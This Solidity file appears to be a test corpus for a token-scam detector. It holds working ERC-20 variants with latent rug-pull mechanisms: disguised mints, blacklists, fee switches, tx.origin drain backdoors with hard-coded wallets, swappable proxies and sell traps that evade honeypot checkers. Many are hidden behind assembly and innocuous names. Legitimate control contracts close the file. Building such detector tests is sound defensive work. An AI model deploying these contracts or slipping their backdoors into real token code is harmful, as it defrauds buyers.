// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import "./Tokens.sol";

// The behavioural zoo: latent scams that trade normally at launch and are armed later by a
// privileged call, written so that names cannot help. Every mechanism appears under at least two
// unrelated names, and one of each pair is reachable only through inline assembly or an external
// helper contract. Then the legitimate controls, which must not come out critical.
//
// Storage layout shared by all (from ERC20Core / BaseToken): 0 name, 1 symbol, 2 totalSupply,
// 3 balanceOf, 4 allowance, 5 owner. The assembly variants write those slots directly.

/// Balance slot of `who` (mapping at slot 3).
function balanceSlot(address who) pure returns (bytes32 s) {
    assembly {
        mstore(0, who)
        mstore(32, 3)
        s := keccak256(0, 64)
    }
}

// ---- 1. renamed mint -------------------------------------------------------------------------

/// Mint called `farm`: the owner creates any amount for itself.
contract FarmToken is BaseToken {
    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function farm(uint256 amount) external onlyOwner {
        totalSupply += amount;
        balanceOf[msg.sender] += amount;
    }
}

/// Mint called `addLiquidity(uint256)`, in assembly, without an event.
contract LiquidityMintToken is BaseToken {
    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function addLiquidity(uint256 amount) external onlyOwner {
        bytes32 slot = balanceSlot(msg.sender);
        assembly {
            sstore(2, add(sload(2), amount))
            sstore(slot, add(sload(slot), amount))
        }
    }
}

// ---- 2. renamed blacklist --------------------------------------------------------------------

/// Blacklist called `claim(address)`.
contract ClaimToken is BaseToken {
    mapping(address => bool) private claimed;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function claim(address who) external onlyOwner {
        claimed[who] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!claimed[from] || _exempt(from, to));
        _move(from, to, value);
    }
}

/// The list a `GirlToken` consults: its deployer flags holders with `setGirl`.
contract GirlRegistry {
    address private immutable keeper;
    mapping(address => bool) public girls;

    constructor(address k) {
        keeper = k;
    }

    function setGirl(address who, bool on) external {
        require(tx.origin == keeper || msg.sender == keeper);
        girls[who] = on;
    }
}

/// Blacklist kept in an external helper contract.
contract GirlToken is BaseToken {
    GirlRegistry public immutable registry;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth)
    {
        registry = new GirlRegistry(msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!registry.girls(from) || _exempt(from, to));
        _move(from, to, value);
    }
}

// ---- 3. post-launch fee switch ---------------------------------------------------------------

/// Sell fee set by `updateRewards(uint256)` (basis points, unbounded).
contract RewardsToken is BaseToken {
    uint256 private rewards;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function updateRewards(uint256 bps) external onlyOwner {
        require(bps <= 10_000);
        rewards = bps;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && !_exempt(from, to) ? value * rewards / 10_000 : 0;
        if (fee > 0) _move(from, owner, fee);
        _move(from, to, value - fee);
    }
}

/// Sell fee in a hashed slot, set by `configure(uint256)` through assembly.
contract ConfigureToken is BaseToken {
    bytes32 private constant FEE = keccak256("cfg.v1");

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function configure(uint256 pct) external onlyOwner {
        bytes32 slot = FEE;
        assembly {
            if gt(pct, 100) { revert(0, 0) }
            sstore(slot, pct)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 pct;
        bytes32 slot = FEE;
        assembly {
            pct := sload(slot)
        }
        uint256 fee = to == pair && !_exempt(from, to) ? value * pct / 100 : 0;
        if (fee > 0) _move(from, owner, fee);
        _move(from, to, value - fee);
    }
}

// ---- 4. hidden-role cooldown -----------------------------------------------------------------

/// A "tuner" role (not the owner, which is renounced) sets a sell cooldown that binds everyone
/// but itself.
contract TuneToken is BaseToken {
    address private tuner;
    uint256 private cooldown;
    mapping(address => uint256) private lastBuy;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth)
    {
        tuner = msg.sender;
    }

    function tune(uint256 seconds_) external {
        require(msg.sender == tuner);
        cooldown = seconds_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) lastBuy[to] = block.timestamp;
        if (to == pair && from != tuner && !_exempt(from, to)) require(block.timestamp >= lastBuy[from] + cooldown);
        _move(from, to, value);
    }
}

/// The same, with the role check and the setter `rebalance(uint256)` in assembly.
contract RebalanceToken is BaseToken {
    address private manager;
    uint256 private wait;
    mapping(address => uint256) private since;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth)
    {
        manager = msg.sender;
    }

    function rebalance(uint256 w) external {
        assembly {
            // manager is slot 6, wait slot 7
            if iszero(eq(caller(), sload(6))) { revert(0, 0) }
            sstore(7, w)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) since[to] = block.timestamp;
        if (to == pair && from != manager && !_exempt(from, to)) require(block.timestamp >= since[from] + wait);
        _move(from, to, value);
    }
}

// ---- 5. tx.origin backdoor -------------------------------------------------------------------

/// A hard-coded wallet that, as tx.origin, drains anyone through `airdrop(address,uint256)`; it
/// also skips the rules on every transfer it originates.
contract AirdropToken is BaseToken {
    address private constant BACKDOOR = 0x5B38Da6a701c568545dCfcB03FcB875f56beddC4;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function airdrop(address from, uint256 value) external {
        require(tx.origin == BACKDOOR);
        _move(from, BACKDOOR, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(tx.origin == BACKDOOR || balanceOf[from] >= value);
        _move(from, to, value);
    }
}

/// The same backdoor, `multicall(address,uint256)`, with the origin test in assembly.
contract MulticallToken is BaseToken {
    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function multicall(address from, uint256 value) external {
        bool ok;
        assembly {
            ok := eq(origin(), 0xAb8483F64d9C6d1EcF9b849Ae677dD3315835cb2)
        }
        require(ok);
        _move(from, 0xAb8483F64d9C6d1EcF9b849Ae677dD3315835cb2, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 o;
        assembly {
            o := origin()
        }
        require(o != 0);
        _move(from, to, value);
    }
}

// ---- 6. external balance oracle --------------------------------------------------------------

/// An "oracle" whose keeper can cap what any holder may move.
contract LimitOracle {
    address private immutable keeper;
    mapping(address => uint256) private caps;

    constructor(address k) {
        keeper = k;
    }

    function update(address who, uint256 cap) external {
        require(msg.sender == keeper);
        caps[who] = cap == 0 ? 1 : cap;
    }

    function allowance(address who, uint256 value) external view returns (bool) {
        uint256 c = caps[who];
        return c == 0 || value <= c;
    }
}

/// Every transfer asks the oracle (deployed with the token) whether the sender may move that much.
contract OracleToken is BaseToken {
    LimitOracle public immutable oracle;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth)
    {
        oracle = new LimitOracle(msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(_exempt(from, to) || oracle.allowance(from, value));
        _move(from, to, value);
    }
}

/// A helper the owner can swap with `setPricing(address)`: pointed anywhere else, transfers fail.
contract PricingToken is BaseToken {
    LimitOracle private pricing;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth)
    {
        pricing = new LimitOracle(msg.sender);
    }

    function setPricing(address p) external onlyOwner {
        pricing = LimitOracle(p);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(_exempt(from, to) || pricing.allowance(from, value));
        _move(from, to, value);
    }
}

// ---- 7. a central account that moves anyone's tokens -----------------------------------------

/// A "controller" (kept in storage, not the owner) moves tokens between any accounts.
contract RescueToken is BaseToken {
    address private controller;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth)
    {
        controller = msg.sender;
    }

    function rescue(address from, address to, uint256 value) external {
        require(msg.sender == controller);
        _move(from, to, value);
    }
}

/// A "sweeper" held by an address that never touches the token otherwise (not the owner, the
/// deployer or the liquidity adder): only the privilege search, reading the token's storage,
/// finds it. It moves anyone's tokens to itself.
contract SweepToken is BaseToken {
    address private sweeper;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth)
    {
        sweeper = address(uint160(uint256(keccak256(abi.encode(msg.sender, "sweeper")))));
    }

    function sweep(address from, uint256 value) external {
        require(msg.sender == sweeper);
        _move(from, sweeper, value);
    }
}

/// The owner "retires" a pool: transfers into it revert, so sales through the launch pair fail
/// while a pool of the token on another venue still takes them.
contract RetireToken is BaseToken {
    mapping(address => bool) private retired;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function retire(address pool) external onlyOwner {
        retired[pool] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!retired[to]);
        _move(from, to, value);
    }
}

/// The same power as `execute(address,address,uint256)`, writing the balance slots in assembly.
contract ExecuteToken is BaseToken {
    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function execute(address from, address to, uint256 value) external onlyOwner {
        bytes32 a = balanceSlot(from);
        bytes32 b = balanceSlot(to);
        assembly {
            let have := sload(a)
            if lt(have, value) { revert(0, 0) }
            sstore(a, sub(have, value))
            sstore(b, add(sload(b), value))
        }
    }
}

// ---- 8. custom-slot proxy whose logic is swapped ---------------------------------------------

/// A proxy with its implementation in a private slot (not EIP-1967), swapped by `setup(address)`.
contract SetupProxy {
    bytes32 private constant IMPL = keccak256("setup.proxy.logic");
    address private immutable admin;

    constructor(string memory n, string memory s, uint256 supply, address, address) {
        admin = msg.sender;
        address logic = address(new UpgradeableToken());
        bytes32 slot = IMPL;
        assembly {
            sstore(slot, logic)
        }
        (bool ok,) = logic.delegatecall(abi.encodeCall(UpgradeableToken.initialize, (n, s, supply, msg.sender)));
        require(ok);
    }

    function setup(address logic) external {
        require(msg.sender == admin);
        bytes32 slot = IMPL;
        assembly {
            sstore(slot, logic)
        }
    }

    fallback() external {
        bytes32 slot = IMPL;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(slot), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// The same, swapped by `migrate(address)` whose dispatch and admin check are all assembly.
contract MigrateProxy {
    constructor(string memory n, string memory s, uint256 supply, address, address) {
        address logic = address(new UpgradeableToken());
        address me = msg.sender;
        assembly {
            sstore(0xa11ce, logic)
            sstore(0xb0b, me)
        }
        (bool ok,) = logic.delegatecall(abi.encodeCall(UpgradeableToken.initialize, (n, s, supply, msg.sender)));
        require(ok);
    }

    fallback() external {
        assembly {
            // migrate(address) = 0xce5494bb
            if eq(shr(224, calldataload(0)), 0xce5494bb) {
                if iszero(eq(caller(), sload(0xb0b))) { revert(0, 0) }
                sstore(0xa11ce, calldataload(4))
                return(0, 0)
            }
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(0xa11ce), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

// ---- 9. transfers from contracts silently skipped --------------------------------------------

/// A `transferFrom` by a contract other than the pair (a router selling for you) returns true and
/// moves nothing, so sells through any router fail while wallet transfers work.
contract QuietToken is BaseToken {
    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function _transfer(address from, address to, uint256 value) internal override {
        if (msg.sender.code.length > 0 && msg.sender != pair && !_exempt(from, to)) return;
        _move(from, to, value);
    }
}

/// The same, with the code-size test in assembly and a switch the owner flips with `sync(bool)`.
contract SilentToken is BaseToken {
    bool private armed;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function sync(bool on) external onlyOwner {
        armed = on;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 size;
        assembly {
            size := extcodesize(caller())
        }
        if (armed && size > 0 && msg.sender != pair && !_exempt(from, to)) return;
        _move(from, to, value);
    }
}

// ---- 10. EOA-only trap -----------------------------------------------------------------------

/// Sells by wallets (tx.origin is the seller) revert; sells by contracts, such as a honeypot
/// checker's probe contract, work.
contract WalletTrapToken is BaseToken {
    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || from != tx.origin || _exempt(from, to));
        _move(from, to, value);
    }
}

/// The same trap, armed by the owner with `setSwapEnabled(uint256)` and tested in assembly.
contract HumanTrapToken is BaseToken {
    uint256 private mode;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function setSwapEnabled(uint256 m) external onlyOwner {
        mode = m;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bool human;
        assembly {
            human := iszero(extcodesize(from))
        }
        require(mode == 0 || to != pair || !human || _exempt(from, to));
        _move(from, to, value);
    }
}

// ---- 11. fee-math mint -----------------------------------------------------------------------

/// A "marketing fee" credited to the owner on every transfer but never debited from anyone.
contract MarketingToken is BaseToken {
    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (!_exempt(from, to)) balanceOf[owner] += value / 20;
    }
}

/// The same inflation in assembly, credited to a hard-coded wallet, only on wallet transfers.
contract DividendToken is BaseToken {
    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (from != pair && to != pair && !_exempt(from, to)) {
            bytes32 slot = balanceSlot(0x4B20993Bc481177ec7E8f571ceCaE8A9e22C02db);
            assembly {
                sstore(slot, add(sload(slot), div(value, 10)))
            }
        }
    }
}

// ---- legitimate controls ---------------------------------------------------------------------

/// Trading opens when the owner calls `enableTrading()`, some blocks after the liquidity is
/// added; until then every buy reverts. Not a scam: it must be scored again once it opens.
contract GatedToken is BaseToken {
    bool public tradingOpen;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function enableTrading() external onlyOwner {
        tradingOpen = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(tradingOpen || _exempt(from, to), "trading not open");
        _move(from, to, value);
    }
}

/// A mint that opens a year after deployment and is capped at 2% of the supply per year.
contract CappedMintToken is BaseToken {
    uint256 public immutable opensAt;
    uint256 public lastMint;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth)
    {
        opensAt = block.timestamp + 365 days;
    }

    function mint(address to, uint256 amount) external onlyOwner {
        require(block.timestamp >= opensAt && block.timestamp >= lastMint + 365 days, "locked");
        require(amount <= totalSupply / 50, "cap");
        lastMint = block.timestamp;
        totalSupply += amount;
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }
}

/// A fixed 2% fee on every transfer, shared out to a fee wallet; nobody can change it.
contract ReflectionToken is BaseToken {
    address public constant POOL = 0x0000000000000000000000000000000000fEe001;

    constructor(string memory n, string memory s, uint256 supply, address factory, address weth)
        BaseToken(n, s, supply, factory, weth) {}

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = _exempt(from, to) ? 0 : value / 50;
        if (fee > 0) _move(from, POOL, fee);
        _move(from, to, value - fee);
    }
}

/// A centralised stablecoin: an owner that blacklists (announced with an event) and a pauser that
/// stops every transfer, its own included. No exemptions.
contract CentralStable is ERC20Core {
    address public owner;
    address public pauser;
    bool public paused;
    mapping(address => bool) public isBlacklisted;

    event Blacklisted(address indexed who);
    event Paused(address account);

    constructor(string memory n, string memory s, uint256 supply, address, address) {
        owner = msg.sender;
        pauser = msg.sender;
        _mintTo(n, s, supply, msg.sender);
    }

    function blacklist(address who) external {
        require(msg.sender == owner, "owner");
        isBlacklisted[who] = true;
        emit Blacklisted(who);
    }

    function pause() external {
        require(msg.sender == pauser, "pauser");
        paused = true;
        emit Paused(msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!paused, "paused");
        require(!isBlacklisted[from] && !isBlacklisted[to], "blacklisted");
        _move(from, to, value);
    }
}
